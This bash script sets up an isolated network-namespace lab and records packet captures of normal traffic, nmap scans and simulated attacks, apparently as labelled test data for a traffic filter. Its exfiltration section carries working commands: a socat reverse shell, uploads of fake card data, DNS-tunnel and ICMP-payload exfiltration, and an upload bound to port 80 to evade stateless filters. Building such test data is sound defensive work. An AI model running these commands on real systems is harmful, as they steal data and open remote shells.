#!/usr/bin/env bash
# Records the captures of this directory: real programs talking through real kernels.
#
#   record.sh [--out DIR] [--only protocols] [--install-deps]   (root; under a minute; default DIR: this directory)
#
# Three namespaces, made and removed here:
#
#   outside  198.51.100.0/24, 2001:db8:1::/64     .10 client   .11 client whose connection is attacked
#      |                                          .66 prober   .77 where a compromised server calls
#   router   .1 / ::1 on both sides               tcpdump listens on its inner device
#      |
#   server   192.0.2.10, 2001:db8:2::10           nginx :80, dnsmasq :53, sshd :22; no packet filter
#
# Every device has its offloads off, so the checksums in the captures are those of the wire.
set -euo pipefail

here=$(cd "$(dirname "$0")" && pwd)
out=$here
only=
packages="iproute2 ethtool procps tcpdump tshark nginx-light dnsmasq-base openssh-server openssh-client nmap
  python3-scapy traceroute socat curl bind9-dnsutils iputils-ping openssl rsync iperf3"
programs="ip ethtool sysctl tcpdump tshark dumpcap mergecap nginx dnsmasq sshd ssh ssh-keygen nmap traceroute socat
  curl dig ping openssl rsync iperf3"

while [ $# -gt 0 ]; do
  case $1 in
    --out) mkdir -p "$2"; out=$(cd "$2" && pwd); shift 2 ;;
    --only) only=$2; shift 2 ;;
    --install-deps) apt-get install -y --no-install-recommends $packages; shift ;;
    *) sed -n '2,4p' "$0" >&2; exit 2 ;;
  esac
done
[ "$(id -u)" = 0 ] || { echo "record.sh: namespaces need root" >&2; exit 1; }
PATH=$PATH:/usr/sbin:/sbin
for program in $programs; do
  command -v "$program" >/dev/null && continue
  echo "record.sh: $program is missing; apt-get install -y --no-install-recommends" $packages >&2
  exit 1
done
/usr/bin/python3 -c 'import scapy' 2>/dev/null || { echo "record.sh: apt-get install -y python3-scapy" >&2; exit 1; }

outside=rec$$o router=rec$$r server=rec$$s
work=$(mktemp -d); chmod 755 "$work"
made_run_sshd=

server4=192.0.2.10 server6=2001:db8:2::10
client4=198.51.100.10 client6=2001:db8:1::10
attacked4=198.51.100.11 attacked6=2001:db8:1::11
prober4=198.51.100.66 prober6=2001:db8:1::66
receiver4=198.51.100.77 receiver6=2001:db8:1::77
name=www.example.net

on_outside() { ip netns exec "$outside" "$@"; }
on_router() { ip netns exec "$router" "$@"; }
on_server() { ip netns exec "$server" "$@"; }

# ---------------------------------------------------------------- the lab

lab_down() {
  local namespace pid
  kill $(jobs -p) 2>/dev/null || true # the shells around the servers, lest they report the servers' end
  disown -a
  for namespace in "$outside" "$router" "$server"; do
    ip netns list | grep -qw "^$namespace" || continue
    for pid in $(ip netns pids "$namespace"); do kill -KILL "$pid" 2>/dev/null || true; done
    ip netns del "$namespace"
  done
  rm -rf "$work"
  [ -z "$made_run_sshd" ] || rmdir /run/sshd 2>/dev/null || true
}
trap lab_down EXIT
trap 'exit 1' INT TERM

device() { # device NAMESPACE DEVICE MAC LINK_LOCAL ADDRESS...
  local namespace=$1 device=$2 address; shift 2
  ip -n "$namespace" link set "$device" address "$1" addrgenmode none
  ip netns exec "$namespace" ethtool -K "$device" tx off rx off sg off tso off gso off gro off >/dev/null 2>&1
  ip -n "$namespace" link set "$device" up
  shift
  ip -n "$namespace" addr add "$1/64" dev "$device" scope link nodad; shift
  for address in "$@"; do
    case $address in
      *:*) ip -n "$namespace" addr add "$address/64" dev "$device" nodad ;;
      *) ip -n "$namespace" addr add "$address/24" dev "$device" ;;
    esac
  done
}

lab_up() {
  local namespace
  for namespace in "$outside" "$router" "$server"; do
    ip netns add "$namespace"
    ip -n "$namespace" link set lo up
    ip netns exec "$namespace" sysctl -qw net.ipv4.conf.all.rp_filter=0 net.ipv4.conf.default.rp_filter=0 \
      net.ipv6.conf.default.accept_ra=0 net.ipv6.conf.default.router_solicitations=0 \
      net.ipv6.conf.default.accept_dad=0
  done
  on_router sysctl -qw net.ipv4.ip_forward=1 net.ipv6.conf.all.forwarding=1 net.ipv4.conf.all.send_redirects=0
  ip link add eth0 netns "$outside" type veth peer name outer netns "$router"
  ip link add eth0 netns "$server" type veth peer name inner netns "$router"
  device "$outside" eth0 02:00:00:00:01:10 fe80::10 $client4 $attacked4 $prober4 $receiver4 \
    $client6 $attacked6 $prober6 $receiver6
  device "$router" outer 02:00:00:00:01:01 fe80::1 198.51.100.1 2001:db8:1::1
  device "$router" inner 02:00:00:00:02:01 fe80::1 192.0.2.1 2001:db8:2::1
  device "$server" eth0 02:00:00:00:02:10 fe80::10 $server4 $server6
  ip -n "$outside" route add default via 198.51.100.1
  ip -n "$server" route add default via 192.0.2.1
  ip -n "$outside" -6 route add default via fe80::1 dev eth0
  ip -n "$server" -6 route add default via fe80::1 dev eth0
  sleep 2 # the multicast reports of fresh addresses are not our subject
}

nginx_config() { # nginx_config NAME LISTEN... < server block
  local name=$1 listen; shift
  mkdir -p "$work/$name"
  { echo "user root; worker_processes 1; daemon off; pid $work/$name/pid; error_log $work/$name/error.log;"
    echo "events { worker_connections 64; }"
    echo "http { access_log off; types { text/html html; text/plain txt; }"
    for path in client_body proxy fastcgi uwsgi scgi; do echo "${path}_temp_path $work/$name/$path;"; done
    echo "server {"
    for listen in "$@"; do echo "listen $listen;"; done
    cat
    echo "} }"; } >"$work/$name/nginx.conf"
}

servers_up() {
  mkdir -p "$work/www" "$work/ssh"
  echo '<!doctype html><title>A page</title><p>A page of the protected server.' >"$work/www/index.html"
  seq -f 'line %06.0f of a file of some 60 KB.' 1 1700 >"$work/www/file.txt"
  seq -f 'line %06.0f of a file for large frames.' 1 400 >"$work/www/large-frames.txt"
  # reuseport: the intruder of exfiltration.pcap binds a second socket to port 80
  echo "root $work/www;" | nginx_config inside "$server4:80 reuseport" "[$server6]:80 reuseport"
  on_server nginx -e "$work/inside/error.log" -c "$work/inside/nginx.conf" &
  echo 'client_max_body_size 1m; location / { return 200 "got it\n"; }' |
    nginx_config outside "$receiver4:8080" "[$receiver6]:8080"
  on_outside nginx -e "$work/outside/error.log" -c "$work/outside/nginx.conf" &

  on_server dnsmasq --no-daemon --conf-file=/dev/null --no-resolv --no-hosts --pid-file= --user=root --bind-interfaces \
    --listen-address=$server4 --listen-address=$server6 --no-dhcp-interface=eth0 \
    --host-record=$name,$server4,$server6 --txt-record=$name,"$(printf 'x%.0s' $(seq 200))" 2>"$work/dns-inside" &
  on_outside dnsmasq --no-daemon --conf-file=/dev/null --no-resolv --no-hosts --pid-file= --user=root --bind-interfaces \
    --listen-address=$receiver4 --listen-address=$receiver6 --address=/t.example.net/$receiver4 2>"$work/dns-outside" &

  ssh-keygen -q -t ed25519 -N '' -C host -f "$work/ssh/host"
  ssh-keygen -q -t ed25519 -N '' -C user -f "$work/ssh/user"
  [ -d /run/sshd ] || { mkdir -p /run/sshd; made_run_sshd=1; }
  printf '%s\n' "ListenAddress $server4" "ListenAddress $server6" "HostKey $work/ssh/host" "PidFile none" \
    "AuthorizedKeysFile $work/ssh/user.pub" "StrictModes no" "UsePAM no" "UseDNS no" \
    "PermitRootLogin forced-commands-only" "ForceCommand echo logged in" >"$work/ssh/config"
  sed -i 's/^/command="echo logged in" /' "$work/ssh/user.pub"
  on_server "$(command -v sshd)" -D -f "$work/ssh/config" -E "$work/ssh/log" &

  local tries
  for tries in $(seq 50); do
    [ "$(on_server ss -Hltn '( sport = :80 or sport = :53 or sport = :22 )' | wc -l)" -ge 6 ] &&
      [ "$(on_outside ss -Hltn '( sport = :8080 or sport = :53 )' | wc -l)" -ge 4 ] && return
    sleep .1
  done
  echo "record.sh: a server did not come up" >&2; exit 1
}

forget_neighbours() {
  ip -n "$router" neigh flush all; ip -n "$server" neigh flush all; ip -n "$outside" neigh flush all
}

recorders=()
recorder() { # recorder NAMESPACE COMMAND...: started and listening when this returns
  local log=$work/recorder.${#recorders[@]} tries
  ip netns exec "$@" 2>"$log" >/dev/null &
  recorders+=($!)
  for tries in $(seq 100); do grep -q 'listening on\|Capturing on' "$log" 2>/dev/null && return; sleep .1; done
  echo "record.sh: $* does not listen" >&2; exit 1
}
recorders_stop() {
  local pid
  sleep 1
  for pid in "${recorders[@]}"; do kill -INT "$pid"; done
  wait "${recorders[@]}" || true
  recorders=()
}

record() { # record FILE FUNCTION: what FUNCTION does, as seen on the wire in front of the server
  echo "recording $1"
  forget_neighbours
  recorder "$router" tcpdump -i inner -s 0 -U --immediate-mode -Z root -w "$out/$1"
  "$2"
  recorders_stop
}

# ---------------------------------------------------------------- what is recorded

fetch() { # fetch CURL-ARGUMENTS PATH...: over IPv4, then over IPv6
  local urls=() path
  for path in "$@"; do urls+=(-o /dev/null "http://$name/$path"); done
  on_outside curl -sS --fail --interface $client4 --resolve "$name:80:$server4" "${urls[@]}"
  on_outside curl -sS --fail --interface $client6 --resolve "$name:80:[$server6]" "${urls[@]}"
}

log_in() { # log_in FROM TO
  on_outside ssh -F /dev/null -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o LogLevel=ERROR \
    -o BatchMode=yes -o IdentitiesOnly=yes -b "$1" -i "$work/ssh/user" "root@$2" | grep -q 'logged in'
}

legitimate() {
  fetch index.html
  fetch file.txt
  fetch index.html index.html # one connection, two requests
  local from to
  for from in $client4 $client6; do
    case $from in *:*) to=$server6 ;; *) to=$server4 ;; esac
    on_outside dig -b "$from" "@$to" +tries=1 $name A >/dev/null
    on_outside dig -b "$from" "@$to" +tries=1 $name AAAA >/dev/null
    on_outside dig -b "$from" "@$to" +tries=1 +tcp $name TXT >/dev/null
    on_outside ping -q -n -I "$from" -c 4 -i .3 "$to" >/dev/null
    log_in "$from" "$to"
    on_outside traceroute -n -T -p 80 -q 2 -N 1 -m 4 -w 1 -s "$from" "$to" >/dev/null
  done
}

scans() {
  local kind target
  for kind in S A F N X M; do
    on_outside nmap -s$kind -Pn -n --disable-arp-ping --max-retries 1 -p 80,81,8443 -e eth0 -S $prober4 $server4
    on_outside nmap -6 -s$kind -Pn -n --disable-arp-ping --max-retries 1 -p 80,81,8443 -e eth0 -S $prober6 $server6
  done >"$work/nmap"
}

probes() {
  scans
  on_outside /usr/bin/python3 "$here/forge.py" probes $prober4 $server4
  on_outside /usr/bin/python3 "$here/forge.py" probes $prober6 $server6
  on_outside /usr/bin/python3 "$here/forge.py" live $attacked4 $server4
  on_outside /usr/bin/python3 "$here/forge.py" live $attacked6 $server6
}

listener() { # listener ADDRESS PORT COMMAND: one connection, COMMAND's output is sent
  local family=TCP4-LISTEN bind=$1
  case $1 in *:*) family=TCP6-LISTEN bind="[$1]" ;; esac
  on_outside timeout 10 socat "$family:$2,bind=$bind,reuseaddr" SYSTEM:"$3" >/dev/null 2>&1 &
  local tries
  for tries in $(seq 50); do on_outside ss -Hltn "sport = :$2" | grep -q . && return; sleep .1; done
}

exfiltration() {
  local stolen=$work/stolen from to source target target_kind label
  seq -f 'row %05.0f, a name, a card number' 1 120 >"$stolen"
  for from in $server4 $server6; do
    case $from in *:*) to=$receiver6 target="[$to]" source="[$from]" ;; *) to=$receiver4 target=$to source=$from ;; esac

    # an upload to a web server
    on_server curl -sS --fail --data-binary "@$stolen" -o /dev/null "http://$target:8080/"

    # a bare TCP upload, answered
    listener $to 4444 'cat >/dev/null; echo thanks'
    on_server socat -t 2 - "TCP:$target:4444" <"$stolen" >/dev/null

    # a shell that calls home
    listener $to 4445 'sleep .3; echo id; sleep .3; echo cat /etc/debian_version; sleep .3; echo exit; cat >/dev/null'
    on_server socat "TCP:$target:4445" EXEC:/bin/sh

    # the same upload from the port of the offered service: in front of a stateless filter even its answers pass
    listener $to 4446 'cat >/dev/null; echo thanks'
    on_server socat -t 2 - "TCP:$target:4446,bind=$source:80,reuseport" <"$stolen" >/dev/null

    # datagrams from port 53 that answer no question; nobody replies
    case $to in *:*) target_kind=UDP6-RECV ;; *) target_kind=UDP4-RECV ;; esac
    on_outside timeout 3 socat -u "$target_kind:40053,bind=$target" OPEN:/dev/null & sleep .5
    on_server /usr/bin/python3 "$here/forge.py" datagrams "$from" "$to" "$stolen"

    # a tunnel in names, answered
    for label in 0 1 2 3 4 5; do
      label=$(dd if="$stolen" bs=35 skip=$label count=1 2>/dev/null | base32 -w 0 | tr -d = | tr A-Z a-z)
      on_server dig -b "$from" "@$to" +tries=1 "$label.t.example.net" A >/dev/null
    done
    on_server dig -b "$from" "@$to" +tries=1 +tcp "$label.t.example.net" A >/dev/null

    # rows in echo payloads, answered
    on_server ping -q -n -c 3 -i .3 -s 1400 -p 726f772030303030312c20612063 "$to" >/dev/null
  done
}

mixed() {
  local from to
  for from in $client4 $client6; do
    case $from in *:*) to=$server6 ;; *) to=$server4 ;; esac
    # UDP to closed ports: answered by port unreachable
    on_outside traceroute -n -q 1 -N 1 -m 4 -w 1 -s "$from" "$to" >/dev/null
    # fragments, both ways
    on_outside ping -q -n -I "$from" -c 2 -i .3 -s 3000 "$to" >/dev/null
    # a closed port: SYN, RST
    on_outside curl -s --interface "$from" --connect-to "::$([ "$to" = $server6 ] && echo "[$to]" || echo "$to"):81" \
      http://$name/ >/dev/null || true
  done
}

# what else servers speak: FTP both ways, TFTP, TLS, DTLS, rsync, iperf3, SNTP, MPTCP, VXLAN, multicast, more scans
protocols() {
  local from to url
  on_server /usr/bin/python3 "$here/talk.py" server $server4 $server6 &
  on_server dnsmasq --no-daemon --conf-file=/dev/null --port=0 --pid-file= --user=root --enable-tftp --tftp-root="$work/www" \
    2>"$work/tftp" &
  openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -days 2 -subj "/CN=$name" -keyout "$work/key" \
    -out "$work/cert" 2>/dev/null
  on_server openssl s_server -quiet -accept 443 -WWW -cert "$work/cert" -key "$work/key" >/dev/null 2>&1 &
  on_server openssl s_server -quiet -dtls -accept 4433 -cert "$work/cert" -key "$work/key" >/dev/null 2>&1 < <(sleep 20) &
  printf '%s\n' "use chroot = no" "[www]" "path = $work/www" >"$work/rsyncd.conf"
  on_server rsync --daemon --no-detach --config="$work/rsyncd.conf" --port=873 2>/dev/null &
  on_server iperf3 -s >/dev/null 2>&1 &
  sleep 2
  for from in $client4 $client6; do
    case $from in *:*) to=$server6 url="[$server6]" ;; *) to=$server4 url=$server4 ;; esac
    on_outside curl -m 5 -sS --interface "$from" -o /dev/null "ftp://$url/file"
    on_outside curl -m 5 -sS --interface "$from" --disable-epsv -o /dev/null "ftp://$url/file"
    on_outside curl -m 5 -sS --ftp-port "$from" -o /dev/null "ftp://$url/file"
    on_outside curl -m 5 -sS --ftp-port "$from" --disable-eprt -o /dev/null "ftp://$url/file" 2>/dev/null || true
    on_outside curl -m 5 -sS --interface "$from" -o /dev/null "tftp://$url/index.html"
    on_outside curl -m 5 -sS --interface "$from" -o /dev/null "tftp://$url/large-frames.txt"
    (cd "$work" && on_outside curl -m 5 -sSk --interface "$from" -o /dev/null "https://$url/www/index.html" || true)
    echo "over DTLS" | on_outside timeout 2 openssl s_client -quiet -dtls -connect "$url:4433" >/dev/null 2>&1 || true
    on_outside timeout 5 rsync -q --address="$from" "rsync://$url/www/" "$work/copy/" || true
    on_outside timeout 5 iperf3 -c "$to" -B "$from" -n 60K >/dev/null || true
    on_outside timeout 5 iperf3 -c "$to" -B "$from" -u -b 400K -n 20K -l 1000 >/dev/null || true
    on_outside timeout 10 /usr/bin/python3 "$here/talk.py" client "$from" "$to"
    on_outside ping -q -n -I "$from" -c 2 -i .3 -s 6000 "$to" >/dev/null
    on_outside ping -q -n -I "$from" -c 1 -t 1 -W 1 "$to" >/dev/null || true
  done
  on_outside nmap -sU -Pn -n --disable-arp-ping --max-retries 0 -p 53,69,123,161,4433 -e eth0 -S $prober4 $server4
  on_outside nmap -sO -Pn -n --disable-arp-ping --max-retries 0 -p 1,2,4,6,17,41,47,50,51,58,108,132,136 -e eth0 -S $prober4 $server4
  on_outside nmap -sS -f -Pn -n --disable-arp-ping --max-retries 0 -p 22,80,443 -e eth0 -S $prober4 $server4
  on_outside nmap -sW -Pn -n --disable-arp-ping --max-retries 0 -p 22,80,81 -e eth0 -S $prober4 $server4
  on_outside nmap -sY -Pn -n --disable-arp-ping --max-retries 0 -p 22,80 -e eth0 -S $prober4 $server4
  on_outside nmap -6 -sU -Pn -n --disable-arp-ping --max-retries 0 -p 53,69,123,161 -e eth0 -S $prober6 $server6
  ip -n "$outside" link add vx0 type vxlan id 7 local $client4 remote $server4 dstport 4789
  ip -n "$server" link add vx0 type vxlan id 7 local $server4 remote $client4 dstport 4789
  for from in "$outside" "$server"; do ip -n "$from" link set vx0 addrgenmode none up; done
  ip -n "$outside" addr add 10.7.0.1/24 dev vx0
  ip -n "$server" addr add 10.7.0.2/24 dev vx0
  on_outside ping -q -n -c 3 -i .3 10.7.0.2 >/dev/null
} >"$work/protocols.log"

few_dozen() {
  fetch index.html
  local from to
  for from in $client4 $client6; do
    case $from in *:*) to=$server6 ;; *) to=$server4 ;; esac
    on_outside dig -b "$from" "@$to" +tries=1 $name A >/dev/null
    on_outside ping -q -n -I "$from" -c 2 -i .2 "$to" >/dev/null
  done
}

formats() {
  echo "recording formats/"
  mkdir -p "$out/formats"
  forget_neighbours
  local tcpdump="tcpdump -s 0 -U --immediate-mode -Z root"
  recorder "$router" $tcpdump -i inner -w "$out/formats/ethernet.pcap"
  recorder "$router" $tcpdump -i inner --time-stamp-precision=nano -w "$out/formats/nanoseconds.pcap"
  recorder "$router" $tcpdump -i inner -s 60 -w "$out/formats/snaplen-60.pcap"
  recorder "$router" dumpcap -q -i inner -w "$out/formats/ethernet.pcapng"
  recorder "$server" $tcpdump -i any -y LINUX_SLL -w "$out/formats/sll.pcap"
  recorder "$server" $tcpdump -i any -y LINUX_SLL2 -w "$out/formats/sll2.pcap"
  few_dozen
  recorders_stop

  local pair
  for pair in "$outside eth0" "$router outer" "$router inner" "$server eth0"; do
    ip -n ${pair% *} link set "${pair#* }" mtu 9000
  done
  recorder "$router" $tcpdump -i inner -w "$out/formats/jumbo.pcap"
  on_outside curl -sS --fail --interface $client4 --resolve "$name:80:$server4" -o /dev/null "http://$name/large-frames.txt"
  recorders_stop
  /usr/bin/python3 "$here/convert_formats.py" "$out/formats"
}

lab_up
servers_up
if [ "$only" = protocols ]; then
  record protocols.pcap protocols
  exit
fi
record protocols.pcap protocols
record legit.pcap legitimate
record probes.pcap probes
record exfiltration.pcap exfiltration
record mixed.pcap mixed
formats
mergecap -F pcap -w "$out/demo.pcap" "$out/legit.pcap" "$out/probes.pcap" "$out/exfiltration.pcap"
/usr/bin/python3 "$here/label.py" "$out/demo.pcap" >"$out/demo.labels.tsv"
tail -n +2 "$out/demo.labels.tsv" | cut -f2 | sort | uniq -c
echo "next: kernel_verdicts.py >demo.verdicts.tsv"
